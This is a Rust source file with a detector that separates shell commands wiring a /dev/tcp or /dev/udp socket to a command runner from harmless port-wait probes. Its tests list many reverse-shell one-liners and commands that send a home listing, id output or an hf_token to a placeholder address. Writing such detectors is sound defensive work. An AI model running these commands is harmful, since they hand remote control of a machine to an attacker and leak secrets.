//! Sockets that a shell opens as files: who reads them, and what is written there. Scripts that wait for a port open one too.

use super::{INTERPRETERS, SHELLS, program_and_rest};

/// Paths that a shell takes for connections.
const SOCKETS: [&str; 2] = ["/dev/tcp/", "/dev/udp/"];

/// Whether a text, in lower case, opens a connection and gives it to what runs commands, or sends more than a fixed text.
pub(in crate::operator) fn wires_socket(text: &str) -> bool {
    if !SOCKETS.iter().any(|socket| text.contains(socket)) {
        return false;
    }
    // Ampersands of redirections join no commands.
    let plain = text.replace("<&", "<").replace(">&", ">").replace("&>", ">").replace("$((", "((");
    // What is substituted is somebody's output: `echo "$(id)" > /dev/tcp/…`.
    let substituted = plain.contains('`') || plain.contains("$(");
    substituted && !plain.contains("< /dev/null")
        || plain
            .split(['\n', ';', '&', '|', '(', ')'])
            .map(|command| command.split(|letter: char| letter.is_whitespace() || "\"'{}".contains(letter)))
            .any(|words| gives_shell(&words.filter(|word| !word.is_empty()).collect::<Vec<_>>()))
}

/// Whether a command of a text with a socket in it runs what it reads, or shows the other side what it prints.
fn gives_shell(command: &[&str]) -> bool {
    let opens = command.iter().any(|word| SOCKETS.iter().any(|socket| word.contains(socket)));
    let own =
        command.get(1).and_then(|word| word.split(['<', '>']).next()).and_then(|number| number.parse::<u32>().ok());
    let executes = command.first().is_some_and(|word| *word == "exec") && own.is_none_or(|number| number <= 2);
    let redirection = |word: &str| word.contains(['<', '>']) || SOCKETS.iter().any(|socket| word.contains(socket));
    let Some((program, rest)) = program_and_rest(command) else { return false };
    if redirection(program) || command.first().is_some_and(|word| redirection(word)) {
        // `exec < /dev/tcp/…` connects the shell itself; a descriptor of its own is only opened.
        return opens && executes;
    }
    if let (true, Some(at)) = (is_shell(program), rest.iter().position(|word| *word == "-c")) {
        return rest.get(at.saturating_add(1)..).is_some_and(gives_shell);
    }
    if program.starts_with('$') || program == "eval" || reads(program, rest) {
        return true;
    }
    let numbered = program.chars().all(|letter| letter.is_ascii_digit());
    let fixed = rest.iter().take_while(|word| !redirection(word)).all(|word| !word.contains('$'));
    let quiet = match program {
        ":" | "true" | "read" | "done" | "fi" | "test" | "[" | "[[" => true,
        "echo" | "printf" => fixed,
        "cat" => rest.contains(&"/dev/null"),
        _ => numbered,
    };
    opens && !quiet
}

/// Whether a program runs the commands that it reads: it is given no script of its own.
fn reads(program: &str, rest: &[&str]) -> bool {
    let interprets = is_shell(program) || INTERPRETERS.contains(&program) || program == "xargs";
    let own = rest.iter().take_while(|word| !word.contains(['<', '>'])).any(|word| !word.starts_with('-'));
    interprets && (!own || program == "xargs")
}

fn is_shell(program: &str) -> bool {
    SHELLS.contains(&program)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_socket_that_a_shell_gets_is_told_from_a_probe() {
        for text in [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
            "sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5",
            "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
            "exec < /dev/tcp/192.0.2.1/4444",
            "while read l; do eval \"$l\"; done < /dev/tcp/192.0.2.1/4444",
            "cat < /dev/tcp/192.0.2.1/4444 | sh",
            "source /dev/tcp/192.0.2.1/4444",
            "ls -la ~ > /dev/tcp/192.0.2.1/4444",
            "echo \"$(id)\" > /dev/tcp/192.0.2.1/4444",
            "echo $hf_token > /dev/tcp/192.0.2.1/4444",
            "(sh)0>/dev/tcp/192.0.2.1/4444",
            "sh < /dev/tcp/192.0.2.1/4444",
            "nohup setsid bash -i > /dev/udp/192.0.2.1/53 0>&1 &",
        ] {
            assert!(wires_socket(text), "{text}");
        }
        for text in [
            "(echo > /dev/tcp/localhost/8000) >/dev/null 2>&1 && echo up",
            "; echo > /dev/tcp/localhost/8000 ;  > /dev/null >& 1 && echo up",
            "timeout 1 bash -c \"</dev/tcp/$host/$port\" && echo open",
            "timeout 1 bash -c </dev/tcp/$host/$port && echo open",
            "until (: < /dev/tcp/$master_addr/29500) 2>/dev/null; do sleep 1; done; python train.py",
            "while ! timeout 1 bash -c 'echo > /dev/tcp/db/5432'; do sleep 1; done; bash run.sh",
            "exec 3<>/dev/tcp/127.0.0.1/8000 && exec 3>&-",
            "exec 3 < > /dev/tcp/127.0.0.1/8000 && exec 3 >& -",
            "< /dev/tcp/$host/$port",
            "cat < /dev/null > /dev/tcp/127.0.0.1/22",
            "echo ping > /dev/udp/127.0.0.1/8125",
        ] {
            assert!(!wires_socket(text), "{text}");
        }
    }
}
